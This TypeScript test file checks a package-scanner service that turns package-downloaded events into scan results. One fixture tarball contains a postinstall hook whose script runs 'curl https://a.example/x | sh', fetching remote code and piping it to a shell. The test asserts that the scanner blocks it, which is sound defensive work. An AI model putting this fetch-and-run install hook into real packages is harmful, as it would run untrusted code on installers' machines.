import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileArtifactStore } from '@sluice/artifacts';
import { decodeEnvelope, eventId, makeEvent, pkgDownloaded, type SluiceEvent } from '@sluice/contracts';
import { connectBus, publishRaw, type Bus } from '@sluice/broker';
import { readEventLog, toMessage } from '@sluice/delivery';
import { createLogger, startService, type RunningService } from '@sluice/runtime';
import { buildWorkspace, packageTarball, layOutBroker, testNats, testPostgres } from '@sluice/testkit';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { downloaded } from '../test/builders.ts';
import { scannerMigrations } from './migrations.ts';
import { scannerService } from './service.ts';

const db = await testPostgres(scannerMigrations);
const nats = await testNats();
const log = createLogger('test', 'silent');
let folder: string;
let bus: Bus;
let service: RunningService;

beforeAll(async () => {
  await buildWorkspace('ecosystems');
  folder = await mkdtemp(path.join(tmpdir(), 'sluice-scanner-'));
  bus = await connectBus({ url: nats.url, service: 'test', instance: 'test', log });
  await layOutBroker(bus, fileArtifactStore(folder));
  const env = { NATS_URL: nats.url, DATABASE_URL: db.url, ARTIFACTS_DIR: folder, ADVISORIES_URL: 'off' };
  service = await startService(scannerService, env, { log });
});
afterAll(async () => {
  await service.stop();
  await bus.close();
  await rm(folder, { recursive: true, force: true });
});

/** Stores an archive, publishes that it was downloaded, and waits for what becomes of it. */
async function outcomeOf(archive: Buffer): Promise<SluiceEvent> {
  const artifacts = fileArtifactStore(folder);
  const [{ digest }, metadata] = await Promise.all([
    artifacts.put(archive),
    artifacts.put(Buffer.from('{"name":"a","version":"1.0.0"}')),
  ]);
  const event = downloaded({
    registry: { metadataDigest: metadata.digest },
    file: { artifactDigest: digest },
  });
  const data = { ...event, assessmentId: randomUUID() };
  const id = eventId(data.assessmentId, pkgDownloaded.type, 1);
  const message = makeEvent(pkgDownloaded, {
    id,
    source: 'test',
    subject: data.purl,
    time: new Date(),
    data,
  });
  const sequence = await publishRaw(bus, toMessage(message, { lane: 'bulk' }));
  const found = new AbortController();
  let outcome: SluiceEvent | undefined;
  await readEventLog(
    bus,
    { fromSequence: sequence + 1, batchMax: 10, signal: found.signal },
    async (batch) => {
      outcome = batch
        .map(({ payload }) => decodeEnvelope(payload))
        .find(({ type }) => type !== 'pkg.attempt-failed');
      if (outcome) found.abort();
    },
  );
  return outcome!;
}

test('answers pkg.downloaded with pkg.scanned', async () => {
  const archive = packageTarball({
    'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
    'x.js': 'require("child_process").exec("curl https://a.example/x | sh")',
  });
  expect(await outcomeOf(archive)).toMatchObject({
    type: 'pkg.scanned',
    data: {
      evidence: {
        scan: {
          advisories: { status: 'missing' },
          files: [
            {
              status: 'scanned',
              findings: expect.arrayContaining([expect.objectContaining({ tier: 'block', file: 'x.js' })]),
            },
          ],
        },
      },
    },
  });
});

test('a hostile archive is evidence, not a failure', async () => {
  expect(await outcomeOf(Buffer.from('no archive'))).toMatchObject({
    type: 'pkg.scanned',
    data: { evidence: { scan: { files: [{ status: 'unscannable', reason: 'archive.not-an-archive' }] } } },
  });
});

test('is ready, and says how the sandbox is isolated', async () => {
  const { ready, checks } = await service.health.report();
  expect(ready).toBe(true);
  expect(checks.sandbox?.detail).toMatch(/namespace|modules/);
});
